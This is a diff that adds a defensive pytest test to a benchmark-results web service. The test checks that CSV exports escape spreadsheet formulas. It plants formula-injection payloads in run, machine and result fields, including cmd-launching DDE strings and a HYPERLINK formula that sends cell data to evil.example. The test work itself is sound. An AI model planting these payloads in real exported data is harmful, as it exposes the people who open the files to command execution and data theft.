@@ -5,6 +5,8 @@ answered 500, conflicting re-sends, and what the OpenAPI document and 405s say.
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
 from collections.abc import Iterator
 from dataclasses import dataclass
@@ -143,3 +145,95 @@ def test_every_write_route_checks_its_scope(site: Site) -> None:
                 assert r.status_code == 403, (path, who, r.text)
                 assert scope in r.json()["error"]
     assert len(seen) == len(WRITE_SCOPES) * (len(SCOPES) + 2)
+
+
+# -- 2. no spreadsheet formula survives a CSV export ----------------------------------------------
+EVIL = {
+    "machine": "=cmd|' /C calc'!A0",
+    "operator": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "provider": "+cmd|' /C calc'!A0",
+    "variant": "-2+3+cmd|' /C calc'!A0",
+    "label": '=HYPERLINK("http://evil.example/?"&A1)',
+    "error": "\t=1+1",
+    "gpu_model": "-1+cmd|' /C calc'!A0",
+}
+PLAIN_NEGATIVE = "-12.5"  # a text cell that is a number stays a number
+
+
+def _evil_run(started_at: str, seed: int) -> dict[str, Any]:
+    doc = make_run(2, machine=EVIL["machine"], started_at=started_at, seed=seed)
+    doc["run"]["label"] = EVIL["label"]
+    doc["machine"]["gpu_model"] = EVIL["gpu_model"]
+    for r in doc["results"]:
+        r.update(operator=EVIL["operator"], provider=EVIL["provider"], variant=EVIL["variant"])
+    doc["results"][1].update(
+        status="error", samples=None, error=EVIL["error"], dtype=PLAIN_NEGATIVE
+    )
+    return doc
+
+
+def _cells(text: str) -> list[str]:
+    return [c for row in csv.reader(io.StringIO(text)) for c in row]
+
+
+def test_no_csv_export_carries_a_formula(site: Site) -> None:
+    runs = []
+    for i in range(2):  # two nights, so the heatmap compares them
+        doc = _evil_run(f"2026-10-0{i + 1}T00:00:00Z", seed=10 + i)
+        r = httpx.post(site.url("/api/v1/runs"), json=doc, headers=site.auth("upload"), timeout=30)
+        assert r.status_code == 201, r.text
+        runs.append(doc["run"]["id"])
+    with Store.open(site.db) as st:
+        ref = st.series.catalog(limit=1, operator=EVIL["operator"])[0]
+        ids = [st.runs.get(u).summary.id for u in runs]
+        st.alerts.upsert(
+            [
+                AlertDraft(
+                    series_id=ref.series_id,
+                    machine_id=ref.machine_id,
+                    last_good_run_id=ids[0],
+                    first_bad_run_id=ids[1],
+                    direction="regression",
+                    ratio=1.5,
+                    ci_low=1.4,
+                    ci_high=1.6,
+                    p=1e-6,
+                    q=1e-5,
+                    details={},
+                )
+            ]
+        )
+    view = {"name": "=1+1", "page": "runs", "query": "label=-1%2B1"}
+    r = httpx.post(site.url("/api/v1/views"), json=view, headers=site.auth("views"), timeout=30)
+    assert r.status_code == 201, r.text
+    exports = {
+        "runs": "/api/v1/runs",
+        "run": f"/api/v1/runs/{runs[1]}",
+        "results": "/api/v1/results",
+        "machines": "/api/v1/machines",
+        "series": "/api/v1/series",
+        "alerts": "/api/v1/alerts",
+        "views": "/api/v1/views",
+        "heatmap": "/api/v1/heatmap",
+        "explore": "/api/v1/explore?operator=" + EVIL["operator"].replace("+", "%2B"),
+    }
+    seen: set[str] = set()
+    for name, path in exports.items():
+        sep = "&" if "?" in path else "?"
+        r = httpx.get(site.url(path + sep + "format=csv"), timeout=30)
+        assert r.status_code == 200, (name, r.text[:300])
+        cells = _cells(r.text)
+        for cell in cells:
+            if cell and cell[0] in "=+-@\t\r\n":
+                assert cell == PLAIN_NEGATIVE or cell.lstrip("-").replace(".", "").isdigit(), (
+                    name,
+                    cell,
+                )
+        escaped = {c for c in cells if c.startswith("'")}
+        assert escaped, (name, "the planted names did not reach this export", cells[:40])
+        seen |= escaped
+    # (the machine is stored as ORG/NAME, so its name never starts a cell)
+    for text in (*(v for k, v in EVIL.items() if k != "machine"), "=1+1"):
+        assert "'" + text in seen, text
+    results = _cells(httpx.get(site.url(f"/api/v1/runs/{runs[1]}?format=csv"), timeout=30).text)
+    assert PLAIN_NEGATIVE in results
